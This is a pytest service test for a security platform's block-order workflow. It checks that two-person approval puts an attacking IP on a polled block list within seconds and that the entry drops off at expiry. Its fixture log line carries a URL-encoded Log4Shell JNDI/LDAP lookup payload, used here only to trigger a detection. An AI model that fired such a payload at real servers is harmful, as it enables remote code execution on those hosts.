"""A block order on a running platform: on the polled list within 5 s of the second person's approval, off it at its expiry."""

import json
import subprocess
import sys
import time
import urllib.request

import pytest

from tests.service.conftest import ROOT, Platform, until
from tests.service.test_clients import post
from tests.service.test_road import set_up

pytestmark = pytest.mark.service
LINE = '45.9.148.71 - - [{}] "GET /?x=$%7bjndi:ldap://45.9.148.71/a%7d HTTP/1.1" 200 5 "-" "x"'
TERM_S = 20.0


def warn(platform: Platform) -> None:
    """Let the platform make a warning of a real log line."""
    platform.cli("units", "add", "--code", "hosp", "--name", "县人民医院", "--importance", "vital")
    token = platform.json("sources", "add", "--unit", "hosp", "--kind", "nginx", "--asset", "his.example")["token"]
    set_up(platform)
    line = LINE.format(time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime()))
    assert post(f"{platform.ingest}ingest", line.encode(), {"Authorization": f"Bearer {token}"})[0] == 200


def test_on_the_list_within_5_s_of_the_approval_and_off_it_at_expiry(platform: Platform) -> None:
    warn(platform)
    command = [sys.executable, "-m", "tests.service.block_orders", str(platform.data), str(TERM_S)]
    pipes = {"stdin": subprocess.PIPE, "stdout": subprocess.PIPE}
    with subprocess.Popen(command, cwd=ROOT, env=platform.environment, text=True, **pipes) as persons:  # type: ignore[call-overload]

        def told(word: str = "") -> dict[str, object]:
            if word:
                persons.stdin.write(word + "\n")
                persons.stdin.flush()
            found: dict[str, object] = json.loads(persons.stdout.readline())
            return found

        made = told()
        assert made["refused"] == ["evidence", "reason"]
        address = f"{platform.console}blocks/lists/{made['token']}/cidr.txt"

        def listed() -> bool:
            with urllib.request.urlopen(address, timeout=5) as answer:
                return "45.9.148.71/32" in answer.read().decode().split()

        assert not listed(), "one person alone puts nothing on the list"
        approved = told("approve")["approved"]
        until(listed, 10, "the entry")
        assert time.time() - float(str(approved)) <= 5
        until(lambda: not listed(), TERM_S + 5, "the end of the term")
        assert -0.1 <= time.time() - float(str(made["until"])) <= 5
        time.sleep(3)
        assert told("state")["state"] == "expired", "the end is written down too"
